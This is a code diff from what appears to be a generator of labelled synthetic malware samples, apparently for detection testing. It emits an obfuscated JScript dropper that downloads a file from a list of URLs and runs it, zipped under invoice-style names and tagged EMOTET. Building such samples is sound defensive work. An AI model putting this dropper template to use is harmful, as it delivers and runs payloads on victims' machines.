@@ -23,16 +23,20 @@ def in_array(draw: Random) -> str:
     get = [f"{b}('0x{number:x}')" for number in range(len(words))]
     urls = ",".join(get[10:])
     return (
-        f"var a=[{listed}];(function(c,d){{var e=function(f){{while(--f){{c['push'](c['shift']());}}}};e(++d);}}(a,0x{len(words):x}));"
+        f"var a=[{listed}];(function(c,d){{var e=function(f){{while(--f){{c['push'](c['shift']());}}}};"
+        f"e(++d);}}(a,0x{len(words):x}));"
         f"var {b}=function(c,d){{c=c-0x0;var e=a[c];return atob(e);}};var {a}=new ActiveXObject({get[0]});"
-        f"var h=new ActiveXObject({get[1]}),s=new ActiveXObject({get[2]});var u=[{urls}];for(var i in u)try{{h[{get[4]}]({get[3]},u[i],false);"
+        f"var h=new ActiveXObject({get[1]}),s=new ActiveXObject({get[2]});var u=[{urls}];"
+        f"for(var i in u)try{{h[{get[4]}]({get[3]},u[i],false);"
         f"h[{get[5]}]();s.Open();s.Type=1;s.Write(h[{get[6]}]);s[{get[7]}]({get[9]},2);{a}[{get[8]}]({get[9]},0,false);break;}}catch(e){{}}"
     )
 
 
 def javascript(draw: Random) -> Sample:
     """In a zip, in UTF-16 without a mark."""
-    text = in_array(draw) if draw.random() < 0.5 else droppers.javascript(draw, droppers.sites(draw), draw.choice(droppers.JAVASCRIPT))
+    text = (
+        in_array(draw) if draw.random() < 0.5 else droppers.javascript(draw, droppers.sites(draw), draw.choice(droppers.JAVASCRIPT))
+    )
     member = f"{draw.choice(('INV', 'DOC', 'Rechnung'))}_{draw.randint(100, 10**6)}.js"
     data = text.encode("utf-16-le") if draw.random() < 0.7 else text.encode()
     return Sample(file_name(draw, "zip"), zipped({member: data}), EMOTET, ("script-dropper",), (member,))
